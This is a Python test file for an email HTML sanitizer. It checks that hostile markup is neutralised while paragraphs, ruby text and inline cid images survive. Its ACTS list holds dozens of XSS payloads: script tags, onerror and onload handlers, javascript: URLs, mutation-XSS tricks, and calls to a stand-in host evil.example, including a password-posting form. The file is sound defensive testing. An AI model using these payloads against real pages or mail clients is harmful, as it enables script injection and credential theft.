"""HTML sent to do harm: nothing acts, nothing is fetched, nothing tells that it was read; the words stay."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from kikitori.foundation.mail.html_text import text_of_html
from kikitori.foundation.mail.safe_html import safe_html

TAGS = """
p div span br hr h1 h2 h3 h4 h5 h6 blockquote pre center b strong i em u s strike del ins sub sup small big code tt
ul ol li dl dt dd a img abbr cite q address bdi ruby rt rp table caption thead tbody tfoot tr td th font
"""
#: What may stand in the frame; everything else in the markup would be somebody's doing.
MAY_STAND = {*TAGS.split()}
MAY_SAY = {"lang", "dir", "src", "alt", "width", "height", "colspan", "rowspan", "start"}
PICTURE = "data:image/png;base64,AAAA"


class Seen(HTMLParser):
    """What a parser finds: tags with their attributes, and comments."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.comments: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_comment(self, data: str) -> None:
        self.comments.append(data)


def shown(html: str) -> str:
    return safe_html(html, lambda cid: PICTURE if cid == "p@mail" else "")


def must_be_harmless(html: str) -> str:
    """Only what may stand stands, and every source is a picture of the mail itself."""
    found = shown(html)
    seen = Seen(found)
    assert {tag for tag, _ in seen.tags} <= MAY_STAND
    assert {name for _, attributes in seen.tags for name in attributes} <= MAY_SAY
    assert {attributes["src"] for _, attributes in seen.tags if "src" in attributes} <= {PICTURE}
    assert seen.comments == []
    return found


ACTS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script\n>alert(1)</script\n>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/x>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<script>alert(1)",
    "<img src=x onerror=alert(1)>",
    "<img src=cid:p@mail onload=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src='x'onerror='alert(1)'>",
    '<img """><script>alert(1)</script>">',
    "<img src=`x`onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><foreignObject><iframe src=//evil.example></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<math href='javascript:alert(1)'>x</math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><img src=x onerror=alert(1)></template>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<title><img title='</title><img src=x onerror=alert(1)>'></title>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data=//evil.example/x.swf></object>",
    "<embed src=//evil.example/x.swf>",
    "<applet code=x></applet>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href=vbscript:x>x</a>",
    "<a href='//evil.example' ping='//evil.example'>x</a>",
    "<form action=//evil.example><input name=password type=password><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<isindex action=j&Tab;a&Tab;vas&Tab;c&Tab;r&Tab;ipt:alert(1) type=image>",
    "<body onload=alert(1)>",
    "<p onclick=alert(1) onmouseover=alert(1) onfocus=alert(1) autofocus tabindex=1>x</p>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=//evil.example/x autoplay></audio>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<meta http-equiv=set-cookie content='a=b'>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=dns-prefetch href=//evil.example>",
    "<style>@import url(//evil.example/x.css);</style>",
    "<style><!--</style><img src=x onerror=alert(1)>--></style>",
    "<div style='background:url(//evil.example/x)'>x</div>",
    "<div style='position:fixed;top:0;left:0;width:100%;height:100%'>x</div>",
    "<div style='width:expression(alert(1))'>x</div>",
    "<table background=//evil.example/x><tr><td background=//evil.example/y>x</td></tr></table>",
    "<img srcset='//evil.example/x 2x' lowsrc=//evil.example/y dynsrc=//evil.example/z>",
    "<picture><source srcset=//evil.example/x><img src=cid:none></picture>",
    "<img src=' cid:p@mail//evil.example'>",
    "<img src='cid:p@mail' style='border:1px'>",
    "<input type=image src=//evil.example/x>",
    "<p id=token class=secret name=x>x</p>",
    "<?php system('x') ?><?xml-stylesheet href='//evil.example'?>",
    "<!--[if gte mso 9]><xml><o:x>y</o:x></xml><![endif]-->",
    "<!-- --!><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<portal src=//evil.example></portal>",
    "<x-custom onclick=alert(1)>x</x-custom>",
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
    "＜script＞alert(1)＜/script＞",
]


@pytest.mark.parametrize("html", ACTS)
def test_nothing_of_it_acts(html: str):
    found = must_be_harmless(f"<p>皿が割れていた</p>{html}")
    assert "皿が割れていた" in found


@pytest.mark.parametrize("html", ACTS)
def test_nothing_of_it_acts_within_a_table_a_quotation_and_a_list(html: str):
    for around in ("<table><tr><td>{}</td></tr></table>", "<blockquote><ul><li>{}</li></ul></blockquote>"):
        must_be_harmless(around.format(html))


@pytest.mark.parametrize("html", ACTS)
def test_what_was_made_harmless_once_is_harmless_for_good(html: str):
    once = safe_html(html, lambda _cid: "")
    assert safe_html(once, lambda _cid: "") == once


@pytest.mark.parametrize(
    "html",
    [
        "<script>alert(1)</script>",
        "<SCRIPT type=x>alert(1)</SCRIPT >",
        "<script>if (1 < 2) alert('<p>')</script>",
        "<style>alert{content:'<p>'}</style>",
        "<title>alert</title>",
        "<svg><text>alert</text></svg>",
        "<object><p>alert</p></object>",
        "<template>alert</template>",
        "<noscript>alert</noscript>",
        "<script>alert(1)",
    ],
)
def test_code_is_never_read_as_words_of_the_letter(html: str):
    assert text_of_html(f"<p>皿が割れていた</p>{html}") == "皿が割れていた"
    assert "alert" not in shown(f"<p>皿が割れていた</p>{html}")


@pytest.mark.parametrize(
    ("html", "kept"),
    [
        ("<p>一</p><p>二</p>", "<p>一</p><p>二</p>"),
        ("<b>太字</b>と<i>斜体</i>", "<b>太字</b>と<i>斜体</i>"),
        (
            "<ruby>苦情<rp>(</rp><rt>くじょう</rt><rp>)</rp></ruby>",
            "<ruby>苦情<rp>(</rp><rt>くじょう</rt><rp>)</rp></ruby>",
        ),
        ("<ol start=3><li>三</li></ol>", '<ol start="3"><li>三</li></ol>'),
        ("<p dir=rtl lang=ar>x</p>", '<p dir="rtl" lang="ar">x</p>'),
        ("<pre>a\n  b</pre>", "<pre>a\n  b</pre>"),
        ("1 &lt; 2 &amp; 3", "1 &lt; 2 &amp; 3"),
        ("<h1>件</h1><hr><blockquote>引用</blockquote>", "<h1>件</h1><hr><blockquote>引用</blockquote>"),
        ("<font color=red>赤</font>", "<font>赤</font>"),
        ("<o:p>外</o:p>", "外"),
        ("<section><article>中</article></section>", "中"),
        ("<label>お名前</label>", "お名前"),
    ],
)
def test_words_keep_the_shape_that_helps_to_read_them(html: str, kept: str):
    assert shown(html) == kept


@pytest.mark.parametrize(
    ("source", "asked"),
    [
        ("cid:p@mail", ["p@mail"]),
        ("CID:p@mail", ["p@mail"]),
        ("  cid:p@mail  ", ["p@mail"]),
        ("cid:", [""]),
        ("cid:&lt;p@mail&gt;", ["<p@mail>"]),
        ("https://evil.example/cid:p@mail", []),
        ("p@mail", []),
        ("", []),
        ("data:image/png;base64,AAAA", []),
        ("blob:https://evil.example/x", []),
    ],
)
def test_only_pictures_of_the_mail_are_asked_for(source: str, asked: list[str]):
    wanted: list[str] = []

    def picture(cid: str) -> str:
        wanted.append(cid)
        return ""

    assert safe_html(f'<img src="{source}" alt="皿">', picture) == '<img alt="皿">'
    assert wanted == asked


PIECES = st.sampled_from(
    [
        *(
            "<",
            ">",
            "</",
            "/>",
            "<!--",
            "-->",
            "<![CDATA[",
            "]]>",
            "'",
            '"',
            "`",
            "=",
            " ",
            "\n",
            "\x00",
            "&#60;",
            "&lt;",
        ),
        *(
            "script",
            "style",
            "svg",
            "math",
            "img",
            "a",
            "p",
            "table",
            "td",
            "textarea",
            "title",
            "noscript",
            "iframe",
        ),
        *(
            " onerror=alert(1)",
            " src=x",
            " src=cid:p@mail",
            " href=javascript:x",
            " style=x",
            "皿",
            "<p>",
            "</p>",
        ),
    ]
)


@settings(max_examples=150, deadline=None)
@given(st.lists(PIECES, max_size=25).map("".join))
def test_any_pieces_in_any_order_are_harmless(html: str):
    must_be_harmless(html)


@settings(max_examples=60, deadline=None)
@given(st.lists(PIECES, max_size=25).map("".join))
def test_any_pieces_have_a_text_without_marks_of_their_own(html: str):
    text = text_of_html(html)
    assert text == "\n".join(line.strip(" \t\r\f") for line in text.split("\n")).strip("\n")
    assert "\n\n\n" not in text


@settings(max_examples=40, deadline=None)
@given(st.lists(st.sampled_from(["皿", "箱", "broken", "11月"]), min_size=1, max_size=8))
def test_words_of_paragraphs_are_read_in_their_order(words: list[str]):
    html = "".join(f"<p><span>{word}</span></p>" for word in words)
    assert text_of_html(html) == "\n\n".join(words)
    assert re.sub(r"<[^>]*>", "", shown(html)) == "".join(words)
